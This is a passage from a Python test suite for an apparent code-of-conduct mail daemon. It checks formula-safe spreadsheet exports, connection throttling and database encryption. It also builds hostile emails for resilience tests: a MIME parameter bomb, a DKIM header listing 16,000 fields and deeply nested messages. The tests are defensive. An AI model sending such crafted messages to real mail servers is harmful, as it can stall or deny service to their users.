    actions, resolution = FORMULAS[0], FORMULAS[1]
    send_as(d, "ada", case.address["ada"],
            f'/status actions="{actions.replace(chr(34), chr(92) + chr(34))}" '
            f'resolution="{resolution}"')
    assert "Status sheet updated" in mail.next(1)[0].text
    rows = list(csv.reader(io.StringIO(d.cli("status", "--format", "csv").stdout)))
    row = next(r for r in rows if r[3] == case.code)
    assert row[5:7] == ["'" + actions, "'" + resolution]
    d.cli("status", "--format", "xlsx", "--output", str(tmp_path / "sheet.xlsx"))
    ws = load_workbook(tmp_path / "sheet.xlsx").active
    assert ws is not None
    cells = next(r for r in ws.iter_rows() if r[3].value == case.code)
    assert [(c.data_type, c.value) for c in cells[5:7]] == [("s", actions), ("s", resolution)]
    send_as(d, "ada", case.address["ada"], '/status actions="a \\\\| b | c" resolution="x\\\\"')
    mail.next(1)
    md = d.cli("status", "--format", "md").stdout
    line = next(x for x in md.splitlines() if case.code in x)
    assert len(re.split(r"(?<!\\)\|", line.strip().strip("|"))) == 7, line


# -- 9. one message never stalls the others -------------------------------------------------
def _params_bomb(to: str, count: int = 60_000) -> bytes:
    params = ";\r\n ".join(f"p{i}=v{i}" for i in range(count))  # folded: short lines
    return (f"From: Rita <r@example.com>\r\nTo: {to}\r\nSubject: more\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\n'
            f"Content-Type: text/plain; {params}\r\n\r\nhello\r\n--B--\r\n").encode()


def _dkim_bomb() -> bytes:
    names = ":\r\n ".join(":".join(["from"] * 50) for _ in range(320))  # 16,000, folded
    return (f"DKIM-Signature: v=1; a=rsa-sha256; d=example.com; s=s1; h={names}; bh=x; b=y\r\n"
            "From: Rita <r@example.com>\r\nTo: conduct@example.org\r\nSubject: signed\r\n"
            "\r\nDKIM-BOMB-REPORT\r\n").encode()


def test_hostile_messages_never_delay_a_report(d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    bounce = str(next(c for c in reversed(d.delivered())
                      if c.to == "grace@example.net")["Return-Path"]).strip("<>")
    nested = (b"From: a@example.com\r\nContent-Type: message/rfc822\r\n\r\n" * 1200
              + b"\r\nend\r\n")
    hostile = [(_params_bomb(case.reporter_address), [case.reporter_address]),
               (_params_bomb(case.reporter_address, 4_000), [case.reporter_address]),
               (nested, [bounce]), (_dkim_bomb(), [ALIAS])]
    for raw, rcpts in hostile:
        d.send(raw, sender="r@example.com", to=rcpts)
        start = time.monotonic()
        reporter = new_reporter()
        d.send(make_report(sender=f"Rita <{reporter}>", body="REAL-REPORT"), sender=reporter)

        def arrived(r: str = reporter) -> bool:
            return sum(reads(c.raw, "REAL-REPORT") and r in c.raw.decode()
                       for c in d.delivered()[mail.seen:]) >= 4

        wait_for(arrived, 5, "the real report, within 5 s of the hostile message")
        assert time.monotonic() - start < 5
        time.sleep(0.5)
        mail.seen = len(d.delivered())
    aside = [c.text for c in d.delivered() if "set aside" in str(c["Subject"])]
    for why in ("header section over", "parameters", "nested more than",
                "DKIM signature over more than"):
        assert any(why in text for text in aside), why
    assert not any(reads(c.raw, "DKIM-BOMB-REPORT") for c in d.delivered())


# -- 10. an MTA in front is not throttled like an attacker ----------------------------------
def test_a_trusted_relay_is_not_throttled(d: Daemon, mail: Mail) -> None:
    socks = [socket.create_connection(("127.0.0.1", d.port)) for _ in range(40)]
    try:
        greetings = [s.recv(100)[:3] for s in socks]
        assert greetings == [b"220"] * 40  # max_connections_per_ip is 20
    finally:
        for sock in socks:
            sock.close()
    with d.smtp() as s:
        s.ehlo()
        s.mail("relay@example.com")
        codes = [s.rcpt(f"conduct+happy-otter.{'a' * 15}{c}@example.org")[0]
                 for c in "abcdefghijklmnopqrstuvwxy"]
        assert set(codes) == {550}  # unknown, but never the 450 penalty
        assert s.rcpt(ALIAS)[0] == 250


# -- 11. without the key, no standing, action or section can be read -----------------------
def test_the_database_without_the_key_shows_no_standings_actions_or_sections(
        d: Daemon, mail: Mail) -> None:
    case = open_case(d, mail)
    clear_all(d, mail, case)
    send_as(d, "ada", case.address["ada"], "/note organizers\nSpoke to them.")
    send_as(d, "grace", case.address["grace"], "/recuse")
    mail.next(2)
    db = sqlite3.connect(d.var / "coc-mail.db")
    try:
        assert db.execute("SELECT count(*) FROM case_members").fetchone()[0] > 0
        columns = {(table, column): [v for (v,) in db.execute(
            f"SELECT {column} FROM {table}")]
            for table, column in (("case_members", "state"), ("audit_log", "action"),
                                  ("audit_log", "actor"), ("doc_entries", "section"),
                                  ("doc_entries", "author"), ("sent_copies", "role"))}
    finally:
        db.close()
    for where, values in columns.items():
        assert values and all(isinstance(v, bytes) and v[:1] == b"\x02" for v in values), where
        # Padded: a standing, an actor or a section cannot be told apart by its length.
        assert len({len(v) for v in values}) <= (2 if where[1] == "action" else 1), where
    data = b"".join(p.read_bytes() for p in d.var.glob("coc-mail.db*"))
    for word in (b"cleared", b"recused", b"notified", b"conflicted", b"organizers",
                 b"conflict check started", b"member recused", b"note added",
                 b"Summary of committee"):
        assert word not in data, word
    assert "member recused" in d.cli("audit", case.code).stdout  # readable with the key
